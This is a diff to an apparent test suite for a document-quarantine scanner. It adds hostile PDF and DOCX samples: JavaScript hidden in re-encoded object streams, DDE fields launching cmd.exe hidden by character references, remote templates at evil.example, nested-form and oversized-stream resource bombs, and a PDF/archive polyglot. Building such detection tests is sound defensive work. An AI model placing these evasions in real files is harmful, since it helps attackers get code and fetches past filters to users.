@@ -121,6 +121,60 @@ def javascript() -> Dictionary:
     return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
 
 
+def scripted_objects(filters: bytes, pack: Callable[[bytes], bytes], parameters: bytes = b"") -> bytes:
+    """A PDF whose script lies in an object stream packed otherwise than by zlib alone."""
+    raw = pack(b"6 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")
+    body = b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter" + filters + parameters + b"/Length %d>>stream\n" % len(raw) + raw + b"\nendstream endobj\n"
+    places = []
+    objects = (b"<</Type/Catalog/Pages 3 0 R/OpenAction 6 0 R>>", b"<</Type/Pages/Count 1/Kids[4 0 R]>>", b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>")
+    for number, content in enumerate(objects, 2):
+        places.append(len(body))
+        body += b"%d 0 obj" % number + content + b"endobj\n"
+    end = len(body)
+    rows = [(0, 0), (1, 9), *((1, at) for at in places), (1, end), (2, 1)]
+    table = b"".join(struct.pack(">BIH", kind, at, 0) for kind, at in rows)
+    body += b"5 0 obj<</Type/XRef/Size 7/W[1 4 2]/Root 2 0 R/Length %d>>stream\n" % len(table) + table + b"\nendstream endobj\n"
+    return body + b"startxref\n%d\n%%%%EOF" % end
+
+
+def predicted(data: bytes) -> bytes:
+    """Deflated behind a PNG predictor of rows of four bytes: no name stands whole in what zlib gives."""
+    data += b" " * (-len(data) % 4)
+    return zlib.compress(b"".join(b"\x00" + data[at : at + 4] for at in range(0, len(data), 4)))
+
+
+def endless_drawing(width: int = 10, depth: int = 10) -> bytes:
+    """A page that draws a form that draws ten forms that draw ten forms …"""
+
+    def change(made: pikepdf.Pdf) -> None:
+        last = None
+        for _ in range(depth):
+            form = pikepdf.Stream(made, b"/X Do " * width if last is not None else b"BT (x) Tj ET")
+            form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, pikepdf.Array([0, 0, 9, 9])
+            form.Resources = Dictionary(XObject=Dictionary(X=last)) if last is not None else Dictionary()
+            last = made.make_indirect(form)
+        made.pages[0].obj["/Contents"] = pikepdf.Stream(made, b"/X Do")
+        made.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(X=last))
+
+    return pdf(change)
+
+
+def wide_contents(streams: int = 12) -> bytes:
+    """A page whose contents are many streams of 50 MB, none of them a bomb by itself."""
+
+    def change(made: pikepdf.Pdf) -> None:
+        stream = pikepdf.Stream(made, deflated(50 << 20))
+        stream["/Filter"] = Name.FlateDecode
+        made.pages[0].obj["/Contents"] = pikepdf.Array([made.make_indirect(stream)] * streams)
+
+    return pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
+
+
+def settings_of(relations: str, encoding: str = "utf-8") -> bytes:
+    """A DOCX whose settings have these relationships, in this encoding."""
+    text = RELATIONS.format(relations).replace('version="1.0"', f'version="1.0" encoding="{encoding}"', 1)
+    return word(word___rels__settings_DOT_xml_DOT_rels=text.encode(encoding))
+
 
 SCRIPT = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>"
 
@@ -147,6 +201,16 @@ def quarantined() -> dict[str, tuple[str, Callable[[], bytes], str]]:
         "outside template": ("a.docx", lambda: word(relations=relation("attachedTemplate", "http://evil.example/t.dotm")), "external_link"),
         "template on a share": ("a.docx", lambda: word(relations=relation("attachedTemplate", "file://evil.example/t.dotm")), "external_link"),
         "template on a share by its path": ("a.docx", lambda: word(relations=relation("attachedTemplate", "\\\\evil\\t.dotm")), "external_link"),
+        "outside template in character references": ("a.docx", lambda: settings_of(relation("attachedTemplate", "&#104;ttp://evil.example/t.dotm")), "external_link"),
+        "outside mode in character references": ("a.docx", lambda: settings_of(relation("attachedTemplate", "http://evil.example/t").replace("External", "&#69;xternal")), "external_link"),
+        "outside template in UTF-16": ("a.docx", lambda: settings_of(relation("attachedTemplate", "http://evil.example/t.dotm"), "utf-16"), "external_link"),
+        "outside template behind a bracket": ("a.docx", lambda: settings_of(relation("attachedTemplate", "http://evil.example/a>b")), "external_link"),
+        "DDE in character references": ("a.docx", lambda: word(field('D&#68;EAUTO c:\\cmd.exe "/k calc"')), "dde"),
+        "DDE under another prefix": ("a.docx", lambda: word('<p xmlns="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><r><instrText a=">">DDE cmd</instrText></r></p>'), "dde"),
+        "script in objects of hexadecimal digits": ("a.pdf", lambda: scripted_objects(b"[/ASCIIHexDecode]", lambda d: d.hex().encode() + b">"), "javascript"),
+        "script in predicted objects": ("a.pdf", lambda: scripted_objects(b"/FlateDecode", predicted, b"/DecodeParms<</Predictor 12/Columns 4>>"), "javascript"),
+        "script of a PDF in an archive": ("a.zip", lambda: zipped({"a.pdf": pdf(_opens_with(javascript()))}), "javascript"),
+        "an archive behind a paper": ("a.pdf", lambda: paper + zipped({"META-INF/MANIFEST.MF": b"x", "a.class": b"x"}), "polyglot"),
         "outside picture": ("a.docx", lambda: word(relations=relation("image", "http://evil.example/pixel.png")), "external_link"),
         "included text": ("a.docx", lambda: word(field("INCLUDETEXT ", '"http://evil.example/x"')), "external_link"),
         "packaged program": ("a.docx", lambda: word(word__embeddings__oleObject1_DOT_bin=b"x"), "ole_object"),
@@ -196,6 +260,7 @@ def ordinary() -> dict[str, tuple[str, Callable[[], bytes]]]:
     return {
         "a paper": ("a.pdf", lambda: draft_pdf("A")), "a link": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://vanban.example")))))),
         "opened at a page": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.GoTo, D=pikepdf.Array([0, Name.Fit]))))),
+        "a PDF in an archive": ("a.zip", lambda: zipped({"a.pdf": draft_pdf("A")})),
         "a link in a DOCX": ("a.docx", lambda: word(relations=relation("hyperlink", "https://vanban.example"))),
         "the sender's own template": ("a.docx", lambda: word(relations=relation("attachedTemplate", "file:///C:\\Users\\An\\mau.dotx"))),
         "a workbook beside it": ("a.docx", lambda: word(relations=relation("oleObject", "so-lieu.xlsx"))),
